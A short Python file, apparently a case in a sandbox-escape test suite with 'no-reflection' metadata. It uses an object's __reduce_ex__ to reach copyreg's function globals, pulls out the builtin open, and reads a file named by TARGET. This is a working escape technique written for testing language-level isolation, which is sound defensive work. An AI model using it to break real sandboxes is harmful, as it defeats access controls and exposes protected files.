"""Reach copyreg through the pickling protocol of an object.

guarantee: no-reflection
layer: language
wins: reflects
outcome: harmless
"""

class Made:
    pass

rebuild = Made().__reduce_ex__(2)[0]
reached = rebuild.__globals__["__builtins__"]["open"]
print("WON reached", reached)
print(reached(TARGET["file"]).read())
